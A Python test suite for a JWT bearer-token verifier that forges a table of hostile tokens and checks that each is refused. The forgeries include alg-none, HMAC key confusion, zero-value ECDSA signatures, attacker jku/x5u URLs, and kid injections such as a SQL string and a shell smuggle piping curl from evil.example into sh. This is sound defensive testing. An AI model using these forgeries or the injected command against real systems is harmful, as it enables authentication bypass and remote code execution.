"""Bearer-token verification: every JWT attack class of threats §2, and the tokens that pass."""

from __future__ import annotations

import base64
import datetime as dt
import json
from collections.abc import Callable
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.x509.oid import NameOID
from jwt.algorithms import ECAlgorithm, OKPAlgorithm, RSAAlgorithm, get_default_algorithms
from pydantic import ValidationError

from portcullis.identity import BearerVerifier, InvalidToken, IssuerConfig, JwksCache, VerifiedToken
from portcullis.identity.jwt_verify import InsufficientScope

NOW = 1_800_000_000
ISSUER = "https://as.example"
OTHER_ISSUER = "https://other-as.example"
AUDIENCE = "https://gw.example/mcp"
JWKS_URL = "https://as.example/jwks.json"
OTHER_JWKS_URL = "https://other-as.example/jwks.json"
EVIL_URL = "https://evil.example/keys.json"

EC_KEY = ec.generate_private_key(ec.SECP256R1())
RSA_KEY = rsa.generate_private_key(public_exponent=65537, key_size=2048)
ED_KEY = ed25519.Ed25519PrivateKey.generate()
OTHER_KEY = ec.generate_private_key(ec.SECP256R1())  # the other trusted issuer's key
ATTACKER_KEY = ec.generate_private_key(ec.SECP256R1())
EC_PUBLIC_PEM = EC_KEY.public_key().public_bytes(
    serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
_ALGS = get_default_algorithms()


# --------------------------------------------------------------------------- helpers


def _jwk(public_key: Any, kid: str) -> dict[str, Any]:
    if isinstance(public_key, ec.EllipticCurvePublicKey):
        jwk = ECAlgorithm.to_jwk(public_key, as_dict=True)
    elif isinstance(public_key, rsa.RSAPublicKey):
        jwk = RSAAlgorithm.to_jwk(public_key, as_dict=True)
    else:
        jwk = OKPAlgorithm.to_jwk(public_key, as_dict=True)
    return {**jwk, "kid": kid}


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _seg(obj: Any) -> str:
    return _b64(json.dumps(obj).encode())


def claims(**changes: Any) -> dict[str, Any]:
    """A good access token's claims; a change to None removes that claim."""
    base: dict[str, Any] = {"iss": ISSUER, "aud": AUDIENCE, "sub": "alice", "iat": NOW, "exp": NOW + 300,
                            "jti": "token-1", "scope": "tools:read tools:call"}
    base.update(changes)
    return {k: v for k, v in base.items() if v is not None}


def forge(header: dict[str, Any], payload: dict[str, Any], key: Any = None, signature: bytes | None = None) -> str:
    """A compact JWS built by hand: signed with ``key`` by header['alg'], or carrying ``signature``."""
    signing_input = f"{_seg(header)}.{_seg(payload)}"
    if signature is None:
        signature = _ALGS[header["alg"]].sign(signing_input.encode(), key)
    return f"{signing_input}.{_b64(signature)}"


def sign(payload: dict[str, Any] | None = None, *, key: Any = EC_KEY, alg: str = "ES256",
         kid: Any = "ec1", **header: Any) -> str:
    """A token signed properly, with a typ of at+jwt unless told otherwise."""
    head = {"alg": alg, "typ": "at+jwt", **header}
    if kid is not None:
        head["kid"] = kid
    return forge({k: v for k, v in head.items() if v is not None}, payload or claims(), key)


def _self_signed_der(key: ec.EllipticCurvePrivateKey) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "as.example")])
    start = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(start).not_valid_after(start + dt.timedelta(days=3650))
            .sign(key, hashes.SHA256()))
    return cert.public_bytes(serialization.Encoding.DER)


class Clock:
    def __init__(self) -> None:
        self.now = float(NOW)

    def __call__(self) -> float:
        return self.now


class FakeFetcher:
    """Serves fixed documents by URL and records every URL asked for."""

    def __init__(self, docs: dict[str, bytes]) -> None:
        self.docs = docs
        self.calls: list[str] = []

    async def __call__(self, url: str) -> bytes:
        self.calls.append(url)
        if url not in self.docs:
            raise ConnectionError("no such document")
        return self.docs[url]


def _issuer(name: str, issuer: str, url: str, **changes: Any) -> IssuerConfig:
    fields: dict[str, Any] = {"name": name, "issuer": issuer, "jwks_url": url, "audience": AUDIENCE,
                              "algorithms": ("ES256", "RS256", "PS256", "EdDSA")}
    return IssuerConfig(**{**fields, **changes})


class Rig:
    """A verifier over two trusted issuers, a fake fetcher and a settable clock."""

    def __init__(self, main_keys: list[dict[str, Any]] | None = None, **changes: Any) -> None:
        main_keys = main_keys if main_keys is not None else [
            _jwk(EC_KEY.public_key(), "ec1"), _jwk(RSA_KEY.public_key(), "rsa1"), _jwk(ED_KEY.public_key(), "ed1")]
        self.clock = Clock()
        self.fetcher = FakeFetcher({
            JWKS_URL: json.dumps({"keys": main_keys}).encode(),
            OTHER_JWKS_URL: json.dumps({"keys": [_jwk(OTHER_KEY.public_key(), "o1")]}).encode(),
            EVIL_URL: json.dumps({"keys": [_jwk(ATTACKER_KEY.public_key(), "evil")]}).encode(),
        })
        issuers = [_issuer("main", ISSUER, JWKS_URL, **changes), _issuer("other", OTHER_ISSUER, OTHER_JWKS_URL)]
        caches = {cfg.name: JwksCache(cfg, fetch=self.fetcher, clock=self.clock) for cfg in issuers}
        self.verifier = BearerVerifier(issuers, caches, clock=self.clock)

    async def verify(self, token: str) -> VerifiedToken:
        return await self.verifier.verify(token)

    async def reason(self, token: str) -> str:
        with pytest.raises(InvalidToken) as caught:
            await self.verifier.verify(token)
        assert str(caught.value) == "invalid_token"
        assert not token or (token not in repr(caught.value.args) and token not in caught.value.detail)
        return caught.value.reason_code


# --------------------------------------------------------------------------- the attack table

_ATTACKER_JWK = _jwk(ATTACKER_KEY.public_key(), "ec1")
_NONE_SPELLINGS = ["none", "None", "NONE", "nOnE"]

ATTACKS: list[tuple[str, Callable[[], str], str]] = [
    # alg: none, in several spellings, with an empty signature and with a junk one
    *[(f"alg-{s}-empty-signature", lambda s=s: forge({"alg": s, "typ": "JWT"}, claims(sub="admin"),
                                                      signature=b""), "malformed") for s in _NONE_SPELLINGS],
    *[(f"alg-{s}-junk-signature", lambda s=s: forge({"alg": s, "typ": "JWT"}, claims(sub="admin"),
                                                     signature=b"\x00"), "alg_not_allowed") for s in _NONE_SPELLINGS],
    ("alg-missing", lambda: forge({"typ": "JWT", "kid": "ec1"}, claims(), signature=b"x" * 64), "alg_not_allowed"),
    ("alg-not-a-string", lambda: forge({"alg": ["ES256"], "kid": "ec1"}, claims(), signature=b"x" * 64),
     "alg_not_allowed"),
    ("alg-es256-lowercase", lambda: forge({"alg": "es256", "kid": "ec1"}, claims(), signature=b"x" * 64),
     "alg_not_allowed"),
    # key confusion: HMAC with the issuer's public key (PEM, and JWK JSON) as the secret
    ("hs256-public-pem-as-secret", lambda: sign(key=EC_PUBLIC_PEM, alg="HS256"), "alg_not_allowed"),
    ("hs256-public-jwk-as-secret",
     lambda: sign(key=json.dumps(_jwk(EC_KEY.public_key(), "ec1")).encode(), alg="HS256"), "alg_not_allowed"),
    ("hs512-public-pem-as-secret", lambda: sign(key=EC_PUBLIC_PEM, alg="HS512"), "alg_not_allowed"),
    # blank and weak HMAC secrets
    ("hs256-blank-secret", lambda: sign(key=b"", alg="HS256", kid=None), "alg_not_allowed"),
    ("hs256-weak-secret", lambda: sign(key=b"secret", alg="HS256"), "alg_not_allowed"),
    # stripped, empty or altered signatures
    ("signature-stripped", lambda: sign().rsplit(".", 1)[0] + ".", "malformed"),
    ("signature-missing-segment", lambda: sign().rsplit(".", 1)[0], "malformed"),
    ("signature-truncated", lambda: sign()[:-10], "bad_signature"),
    ("payload-tampered", lambda: sign().split(".")[0] + "." + _seg(claims(sub="admin")) + "."
     + sign().split(".")[2], "bad_signature"),
    # psychic signatures (CVE-2022-21449): r = s = 0, raw r||s as JWS uses, and DER
    ("ecdsa-zero-raw", lambda: forge({"alg": "ES256", "kid": "ec1"}, claims(), signature=b"\x00" * 64),
     "bad_signature"),
    ("ecdsa-zero-der", lambda: forge({"alg": "ES256", "kid": "ec1"}, claims(),
                                     signature=encode_dss_signature(0, 0)), "bad_signature"),
    ("ecdsa-r-s-equal-order", lambda: forge({"alg": "ES256", "kid": "ec1"}, claims(), signature=bytes.fromhex(
        "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551") * 2), "bad_signature"),
    # keys carried by the token itself
    ("embedded-jwk", lambda: sign(key=ATTACKER_KEY, jwk=_ATTACKER_JWK), "header_not_allowed"),
    ("jku-url", lambda: sign(key=ATTACKER_KEY, kid="evil", jku=EVIL_URL), "header_not_allowed"),
    ("x5u-url", lambda: sign(key=ATTACKER_KEY, kid="evil", x5u=EVIL_URL), "header_not_allowed"),
    ("x5c-self-signed", lambda: sign(key=ATTACKER_KEY, kid=None,
                                     x5c=[base64.b64encode(_self_signed_der(ATTACKER_KEY)).decode()]),
     "header_not_allowed"),
    ("crit-extension", lambda: sign(crit=["http://example.com/ext"]), "header_not_allowed"),
    ("b64-false", lambda: sign(b64=False), "header_not_allowed"),
    # kid injection: a map key only
    ("kid-path-traversal", lambda: sign(key=ATTACKER_KEY, kid="../../dev/null"), "unknown_kid"),
    ("kid-sql", lambda: sign(key=ATTACKER_KEY, kid="' OR 1=1--"), "unknown_kid"),
    ("kid-shell", lambda: sign(key=ATTACKER_KEY, kid="x; curl https://evil.example | sh"), "unknown_kid"),
    ("kid-url", lambda: sign(key=ATTACKER_KEY, kid=EVIL_URL), "unknown_kid"),
    ("kid-too-long", lambda: sign(key=ATTACKER_KEY, kid="a" * 129), "bad_kid"),
    ("kid-empty", lambda: sign(key=ATTACKER_KEY, kid=""), "bad_kid"),
    ("kid-control-chars", lambda: sign(key=ATTACKER_KEY, kid="ec1\x00"), "bad_kid"),
    ("kid-homoglyph-of-ec1", lambda: sign(key=ATTACKER_KEY, kid="\u0435\u04411"), "bad_kid"),
    ("kid-not-a-string", lambda: sign(key=ATTACKER_KEY, kid=1), "bad_kid"),
    ("kid-reused-by-another-key", lambda: sign(key=ATTACKER_KEY, kid="ec1"), "bad_signature"),
    ("kid-of-the-other-issuer", lambda: sign(key=ATTACKER_KEY, kid="o1"), "unknown_kid"),
    ("other-issuers-kid-signed-by-this-issuer", lambda: sign(claims(iss=OTHER_ISSUER), kid="o1"), "bad_signature"),
    # a key of the wrong family
    ("es256-token-naming-rsa-key", lambda: sign(kid="rsa1"), "key_alg_mismatch"),
    ("rs256-token-naming-ec-key", lambda: sign(key=RSA_KEY, alg="RS256", kid="ec1"), "key_alg_mismatch"),
    ("eddsa-token-naming-ec-key", lambda: sign(key=ED_KEY, alg="EdDSA", kid="ec1"), "key_alg_mismatch"),
    ("es384-not-pinned", lambda: sign(key=ec.generate_private_key(ec.SECP384R1()), alg="ES384"), "alg_not_allowed"),
    ("rs512-not-pinned", lambda: sign(key=RSA_KEY, alg="RS512", kid="rsa1"), "alg_not_allowed"),
    # claim abuse
    ("wrong-audience-passthrough", lambda: sign(claims(aud="https://billing.example/api")), "wrong_audience"),
    ("wrong-audience-list", lambda: sign(claims(aud=["https://a.example", "https://b.example"])), "wrong_audience"),
    ("audience-prefix", lambda: sign(claims(aud=AUDIENCE + "/admin")), "wrong_audience"),
    ("audience-not-a-string", lambda: sign(claims(aud=42)), "wrong_audience"),
    ("unknown-issuer", lambda: sign(claims(iss="https://evil.example"), key=ATTACKER_KEY), "unknown_issuer"),
    ("issuer-with-trailing-slash", lambda: sign(claims(iss=ISSUER + "/")), "unknown_issuer"),
    ("issuer-not-a-string", lambda: sign(claims(iss=[ISSUER])), "unknown_issuer"),
    ("expired", lambda: sign(claims(exp=NOW - 31)), "expired"),
    ("expired-long-ago", lambda: sign(claims(iat=NOW - 7200, exp=NOW - 3600)), "expired"),
    ("nbf-in-future", lambda: sign(claims(nbf=NOW + 120)), "nbf_in_future"),
    ("iat-in-future", lambda: sign(claims(iat=NOW + 120)), "iat_in_future"),
    ("exp-not-a-number", lambda: sign(claims(exp=str(NOW + 300))), "bad_claim"),
    ("exp-infinite", lambda: sign(claims(exp=float("inf"))), "bad_claim"),
    ("exp-bool", lambda: sign(claims(exp=True)), "bad_claim"),
    ("missing-exp", lambda: sign(claims(exp=None)), "missing_claim"),
    ("missing-sub", lambda: sign(claims(sub=None)), "missing_claim"),
    ("missing-iat", lambda: sign(claims(iat=None)), "missing_claim"),
    ("missing-aud", lambda: sign(claims(aud=None)), "missing_claim"),
    ("missing-iss", lambda: sign(claims(iss=None)), "missing_claim"),
    ("empty-sub", lambda: sign(claims(sub="")), "missing_claim"),
    ("scope-not-a-string", lambda: sign(claims(scope={"admin": True})), "bad_claim:scopes:type"),
    ("wrong-typ-dpop", lambda: sign(typ="dpop+jwt"), "typ_not_allowed"),
    ("wrong-typ-id-token", lambda: sign(typ="id_token+jwt"), "typ_not_allowed"),
    ("typ-not-a-string", lambda: sign(typ=1), "typ_not_allowed"),
    # size and garbage
    ("over-size", lambda: sign(claims(pad="x" * 9000)), "too_large"),
    ("over-size-huge", lambda: "a" * 1_000_000, "too_large"),
    ("empty", lambda: "", "malformed"),
    ("one-segment", lambda: "abc", "malformed"),
    ("four-segments", lambda: sign() + ".abc", "malformed"),
    ("base64-padding", lambda: sign() + "==", "malformed"),
    ("base64-bad-alphabet", lambda: "!!!.!!!.!!!", "malformed"),
    ("base64-impossible-length", lambda: "a.b.c", "malformed"),
    ("header-not-json", lambda: _b64(b"{not json") + "." + _seg(claims()) + ".AAAA", "malformed"),
    ("header-json-array", lambda: _seg(["ES256"]) + "." + _seg(claims()) + ".AAAA", "malformed"),
    ("payload-not-json", lambda: _seg({"alg": "ES256", "kid": "ec1"}) + "." + _b64(b"\xff\xfe") + ".AAAA",
     "malformed"),
    ("payload-json-array", lambda: _seg({"alg": "ES256", "kid": "ec1"}) + "." + _seg([1]) + ".AAAA", "malformed"),
    ("bearer-prefix-left-on", lambda: "Bearer " + sign(), "malformed"),
    ("whitespace-inside", lambda: sign().replace(".", " .", 1), "malformed"),
    ("non-ascii", lambda: sign() + "é", "malformed"),
]


@pytest.mark.parametrize(("make", "reason"), [(m, r) for _, m, r in ATTACKS], ids=[i for i, _, _ in ATTACKS])
async def test_hostile_tokens_are_rejected_for_the_expected_reason(make: Callable[[], str], reason: str) -> None:
    """Each attack class is refused by the defence meant for it, and nothing in a token is fetched."""
    rig = Rig()
    assert await rig.reason(make()) == reason
    assert set(rig.fetcher.calls) <= {JWKS_URL, OTHER_JWKS_URL}


# --------------------------------------------------------------------------- tokens that pass


@pytest.mark.parametrize(("key", "alg", "kid"), [
    (EC_KEY, "ES256", "ec1"), (RSA_KEY, "RS256", "rsa1"), (RSA_KEY, "PS256", "rsa1"), (ED_KEY, "EdDSA", "ed1"),
], ids=["ES256", "RS256", "PS256", "EdDSA"])
async def test_tokens_signed_with_a_pinned_algorithm_verify(key: Any, alg: str, kid: str) -> None:
    """ES256, RS256, PS256 and EdDSA tokens from the configured key set verify."""
    token = sign(key=key, alg=alg, kid=kid)
    verified = await Rig().verify(token)
    assert verified.issuer_name == "main"
    assert verified.subject == "alice"
    assert verified.jti == "token-1"
    assert verified.expires_at == NOW + 300
    assert verified.claims["aud"] == AUDIENCE
    assert len(verified.token_id_hash) == 32 and verified.token_id_hash not in token


async def test_scopes_come_from_the_space_separated_scope_claim() -> None:
    """``scope`` is split on spaces."""
    verified = await Rig().verify(sign(claims(scope="tools:read  tools:call")))
    assert verified.scopes == ("tools:read", "tools:call")


async def test_scopes_come_from_an_scp_list() -> None:
    """``scp`` as a list of strings is taken as is."""
    verified = await Rig().verify(sign(claims(scope=None, scp=["tools:read", "admin"])))
    assert verified.scopes == ("tools:read", "admin")


async def test_a_token_without_scopes_has_none() -> None:
    """No ``scope`` or ``scp`` means no scopes, and requiring one raises InsufficientScope."""
    verified = await Rig().verify(sign(claims(scope=None)))
    assert verified.scopes == ()
    with pytest.raises(InsufficientScope) as caught:
        verified.require_scopes("tools:read", "tools:call")
    assert caught.value.required_scopes == ("tools:read", "tools:call")


async def test_the_second_issuer_verifies_with_its_own_keys() -> None:
    """The unverified iss selects the issuer; that issuer's key set verifies it."""
    verified = await Rig().verify(sign(claims(iss=OTHER_ISSUER), key=OTHER_KEY, kid="o1"))
    assert verified.issuer_name == "other"


@pytest.mark.parametrize("typ", ["at+jwt", "JWT", "application/at+jwt", "AT+JWT", None])
async def test_allowed_or_absent_typ_passes(typ: str | None) -> None:
    """typ compares as a media type (case-insensitive, optional application/), and may be absent."""
    assert (await Rig().verify(sign(typ=typ))).subject == "alice"


async def test_clock_skew_within_leeway_is_tolerated() -> None:
    """exp just past, iat and nbf just ahead, all within the 30 s leeway, still verify."""
    token = sign(claims(exp=NOW - 20, iat=NOW + 20, nbf=NOW + 20))
    assert (await Rig().verify(token)).subject == "alice"


async def test_expiry_follows_the_injected_clock() -> None:
    """A token good now is refused once the clock passes exp plus leeway."""
    rig, token = Rig(), sign()
    await rig.verify(token)
    rig.clock.now = NOW + 300 + 30
    assert await rig.reason(token) == "expired"


async def test_a_token_without_kid_uses_the_only_key() -> None:
    """No kid and a one-key set: that key verifies."""
    rig = Rig(main_keys=[_jwk(EC_KEY.public_key(), "ec1")])
    assert (await rig.verify(sign(kid=None))).subject == "alice"


async def test_a_token_without_kid_is_refused_when_keys_are_ambiguous() -> None:
    """No kid and several keys: no key is guessed."""
    assert await Rig().reason(sign(kid=None)) == "unknown_kid"


async def test_the_token_never_appears_in_the_error() -> None:
    """The exception carries a reason code, never the token or its claims."""
    token = sign(claims(aud="https://billing.example/api", sub="secret-subject"))
    with pytest.raises(InvalidToken) as caught:
        await Rig().verify(token)
    text = " ".join([str(caught.value), repr(caught.value), caught.value.detail, caught.value.reason_code])
    assert token not in text and "secret-subject" not in text and token.split(".")[2] not in text


# --------------------------------------------------------------------------- configuration


@pytest.mark.parametrize("algorithms", [("none",), ("HS256",), ("ES256", "HS256"), ("None",), ()])
def test_issuer_config_refuses_none_hmac_and_empty_algorithm_lists(algorithms: tuple[str, ...]) -> None:
    """Only the pinned asymmetric algorithms can be configured, and at least one."""
    with pytest.raises(ValidationError):
        _issuer("main", ISSUER, JWKS_URL, algorithms=algorithms)


@pytest.mark.parametrize("changes", [
    {"jwks_file": "/etc/jwks.json"},
    {"jwks_url": None},
    {"required_claims": ("exp", "iat", "iss", "aud")},
    {"leeway_s": 301},
    {"jwks_min_refresh_s": 0},
    {"jwks_max_age_s": 60, "jwks_min_refresh_s": 120},
    {"unknown_key": 1},
], ids=["two-sources", "no-source", "sub-dropped", "leeway-too-long", "no-refresh-floor", "max-age-under-floor",
        "unknown-key"])
def test_issuer_config_refuses_weakening_or_ambiguous_settings(changes: dict[str, Any]) -> None:
    """Ambiguous key sources, dropped mandatory claims, bad bounds and unknown keys are errors."""
    with pytest.raises(ValidationError):
        _issuer("main", ISSUER, JWKS_URL, **changes)


def test_a_verifier_without_issuers_is_an_error() -> None:
    """An empty trust list is a configuration error, not 'accept nothing' or 'accept anything'."""
    with pytest.raises(ValueError, match="at least one"):
        BearerVerifier([], {})
